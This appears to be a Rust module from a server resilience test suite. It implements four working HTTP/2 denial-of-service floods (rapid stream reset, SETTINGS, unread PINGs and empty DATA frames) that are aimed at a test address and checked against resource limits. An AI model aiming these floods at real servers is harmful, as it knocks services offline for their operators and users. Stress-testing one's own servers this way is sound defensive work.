//! Floods of HTTP/2 frames that cost their sender next to nothing.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use anyhow::Result;

use super::client;
use super::http2::{self, Http2};
use super::ring::{Ring, Start};
use super::{Attack, Bounds};

pub(super) const ALL: &[Attack] = &[
    flood("h2-rapid-reset", "requests of HTTP/2 that are reset at once", true, |ring| {
        frames(ring, true, |connection| {
            let mut all = Vec::new();
            for _ in 0..100 {
                let id = connection.new_stream();
                let fields = [(":method", "GET"), (":path", "/api/clock?every=100ms&after=0")];
                all.extend(http2::headers(id, &fields, true));
                all.extend(http2::frame(http2::RESET, 0, id, &8_u32.to_be_bytes()));
            }
            all
        })
    }),
    flood("h2-settings", "settings of HTTP/2 without pause", false, |ring| {
        frames(ring, true, |_| http2::frame(http2::SETTINGS, 0, 0, &[]).repeat(2_000))
    }),
    flood("h2-pings-unread", "pings of HTTP/2 whose answers are not read", false, |ring| {
        frames(ring, false, |_| http2::frame(http2::PING, 0, 0, b"12345678").repeat(2_000))
    }),
    flood("h2-empty-data", "empty pieces of a body over HTTP/2", false, |ring| {
        let mut stream = None;
        frames(ring, true, move |connection| {
            let id = *stream.get_or_insert_with(|| connection.ask("POST", "/api/echo/once", true));
            http2::frame(http2::DATA, 0, id, &[]).repeat(2_000)
        })
    }),
];

const fn flood(
    name: &'static str,
    tries: &'static str,
    short: bool,
    run: fn(&mut Ring) -> Result<()>,
) -> Attack {
    let bounds = Bounds { growth: 24.0, cpu: 1.3, delay: 20.0 };
    Attack { name, tries, short, waits: false, start: Start::Plain, flags: &[], bounds, run }
}

/// Sends what is made over and over, on a new connection wherever the last one was ended.
fn frames(ring: &mut Ring, reads: bool, mut make: impl FnMut(&mut Http2) -> Vec<u8>) -> Result<()> {
    let (began, time) = (Instant::now(), ring.time(1, 10));
    let (mut connections, mut sent) = (0, 0);
    let mut why = None;
    while began.elapsed() < time && connections < MANY {
        let Ok(mut connection) = Http2::open(ring.address, 65_535, None) else {
            std::thread::sleep(Duration::from_millis(20));
            continue;
        };
        connections += 1;
        connection.stream.set_write_timeout(Some(Duration::from_millis(300)))?;
        let mut buffer = vec![0; 1 << 18];
        while began.elapsed() < time {
            let bytes = make(&mut connection);
            match connection.stream.write(&bytes) {
                // A cut frame is one more fault for the server to bear.
                Ok(written) => sent += written,
                Err(error) if client::is_timeout(&error) => {}
                Err(error) => {
                    why = Some(error.to_string());
                    break;
                }
            }
            if reads {
                connection.stream.set_read_timeout(Some(Duration::from_millis(1)))?;
                if matches!(connection.stream.read(&mut buffer), Ok(0)) {
                    why = Some("ended by the server".to_owned());
                    break;
                }
            }
        }
    }
    ring.note(format!("{connections} connections, {} MiB sent, last end: {why:?}", sent >> 20));
    Ok(())
}

/// Connections that are ended at once are made anew so often.
const MANY: usize = 2_000;
